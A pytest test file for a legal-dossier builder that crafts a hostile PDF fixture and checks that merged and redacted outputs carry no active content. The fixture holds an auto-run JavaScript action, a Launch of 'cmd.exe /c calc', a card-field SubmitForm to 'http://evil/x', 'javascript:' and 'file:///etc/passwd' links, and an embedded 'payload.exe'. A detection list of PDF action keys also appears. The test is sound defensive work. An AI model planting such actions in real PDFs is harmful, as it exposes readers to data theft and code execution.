"""issue 23: a victim's PDF with JavaScript, a Launch of cmd.exe, a javascript: link, a
SubmitForm and an embedded file is merged into dossier.pdf, bundle.pdf and the redacted copy
without any of them; its web link is listed in the exhibit's header instead."""

from __future__ import annotations

import hashlib
import shutil
import subprocess
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from tests.test_redact_leaks import run_cli

WEB = "https://jd-tuikuan.cc/refund?id=1"
BAD = ["/JavaScript", "/JS", "/Launch", "/SubmitForm", "/ImportData", "/EmbeddedFile",
       "/EmbeddedFiles", "/AcroForm", "/GoToR", "/GoToE", "/Widget",
       "/FileAttachment", "/RichMedia"]


def _annot(pdf: pikepdf.Pdf, rect: list[int], action: Dictionary, subtype: str = "/Link") -> object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array(rect),
                                        Border=Array([0, 0, 0]), A=action))


def hostile_pdf(path: Path) -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    page.obj.Contents = pdf.make_stream(b"BT /F1 24 Tf 72 720 Td (Refund form) Tj ET")
    page.obj.Resources = Dictionary(Font=Dictionary(F1=Dictionary(
        Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)))
    js = Dictionary(S=Name.JavaScript, JS=String("app.alert('pwned')"))
    pdf.Root.OpenAction = pdf.make_indirect(js)
    launch = Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\cmd.exe"),
                        Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil/x")))
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("card"), V=String("filled"),
        Rect=Array([72, 500, 300, 520]), A=submit, AA=Dictionary(K=js), P=page.obj,
        DA=String("/Helv 12 Tf 0 g")))
    page.obj.Annots = Array([
        _annot(pdf, [72, 700, 300, 730], launch),
        _annot(pdf, [72, 650, 300, 680], Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        _annot(pdf, [72, 600, 300, 630], Dictionary(S=Name.URI, URI=String(WEB))),
        _annot(pdf, [72, 560, 300, 590], Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
        _annot(pdf, [72, 540, 300, 555], Dictionary(S=Name.GoToR, F=String("other.pdf"),
                                                    D=Array([0, Name.Fit]))),
        field,
    ])
    page.obj.AA = Dictionary(O=js)
    helv = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True,
                                   DR=Dictionary(Font=Dictionary(Helv=helv)),
                                   DA=String("/Helv 12 Tf 0 g"))
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00evil")
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("x"), pdf.make_indirect(js)]))
    pdf.save(path, deterministic_id=True)


def active_content(path: Path) -> list[str]:
    """Every name in BAD used anywhere in the file, and every URI annotation; the dossier's own
    manifest (evidence-manifest.json) is the one attachment allowed."""
    found = []
    with pikepdf.open(path) as pdf:
        allowed = set(pdf.attachments) <= {"evidence-manifest.json", "manifest.json"}
        if not allowed:
            found.append(f"attachments {sorted(pdf.attachments)}")
        seen: set[tuple[int, int]] = set()
        stack: list[object] = [pdf.trailer]
        while stack:  # every object reachable from the trailer, direct ones included
            obj = stack.pop()
            if isinstance(obj, pikepdf.Object) and obj.is_indirect:
                if obj.objgen in seen:
                    continue
                seen.add(obj.objgen)
            if isinstance(obj, pikepdf.Stream):
                obj = obj.stream_dict
            if isinstance(obj, Array):
                stack.extend(obj)
            elif isinstance(obj, Dictionary):
                for key, value in obj.items():
                    if key in BAD and key not in ("/EmbeddedFiles", "/EmbeddedFile"):
                        found.append(key)
                    if isinstance(value, Name) and str(value) in BAD and str(value) != "/EmbeddedFile":
                        found.append(str(value))
                    if key == "/URI":
                        found.append(f"URI {value}")
                    if key != "/Parent":
                        stack.append(value)
        if "/AA" in pdf.Root:
            found.append("catalogue action")
        if "/OpenAction" in pdf.Root and not isinstance(pdf.Root.OpenAction, pikepdf.Array):
            found.append("open action")  # ours opens the first page: a destination, no action
        for page in pdf.pages:
            if "/AA" in page.obj:
                found.append("page action")
    return found


def make_case(root: Path) -> Path:
    case = root / "case"
    docs = case / "victims" / "V001" / "originals" / "Documents"
    docs.mkdir(parents=True)
    (case / "victims" / "V002" / "originals").mkdir(parents=True)
    (case / "case.toml").write_text(
        '[case]\ntitle = "余某某等诉某电商平台网络购物合同纠纷"\ncourt = "北京市朝阳区人民法院"\n'
        'timezone = "Asia/Shanghai"\nbates_prefix = "JD"\nlanguage = "zh-Hans"\n'
        'build_date = "2015-06-01"\n', encoding="utf-8")
    for vid, phone in (("V001", "13912345678"), ("V002", "13800138000")):
        (case / "victims" / vid / "victim.toml").write_text(
            f'[victim]\nname = "王某"\nregion = "北京市"\nphone = "{phone}"\n'
            'claimed_loss = "100.00"\n', encoding="utf-8")
    hostile_pdf(docs / "refund-form.pdf")
    return case


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler not installed")
def test_merged_originals_carry_no_active_content(tmp_path: Path) -> None:
    case = make_case(tmp_path)
    original = case / "victims" / "V001" / "originals" / "Documents" / "refund-form.pdf"
    before = hashlib.sha256(original.read_bytes()).hexdigest()
    assert len(active_content(original)) >= 8  # the check can fail: the original has them all
    out = tmp_path / "out"
    for extra in ((), ("--redact",)):
        done = run_cli("build", str(case), "--out", str(out), "-j", "1", *extra)
        assert done.returncode in (0, 3), done.stderr
    outputs = [out / "V001" / "dossier.pdf", out / "joint" / "bundle.pdf",
               out / "V001" / "dossier-redacted.pdf", out / "served" / "joint" / "bundle-redacted.pdf"]
    for pdf in outputs:
        assert active_content(pdf) == [], pdf
    assert hashlib.sha256(original.read_bytes()).hexdigest() == before  # never modified
    text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(outputs[0]), "-"],
                          capture_output=True, check=True, text=True).stdout.replace("\n", "")
    assert "Refund form" in text  # the page itself is there
    assert "filled" in text  # the form's value is drawn into the page, the field is gone
    assert "已移除的链接" in text and WEB in text
    assert "javascript:" not in text and "/etc/passwd" not in text
    assert "JavaScript脚本" in text and "启动程序或文件的动作" in text
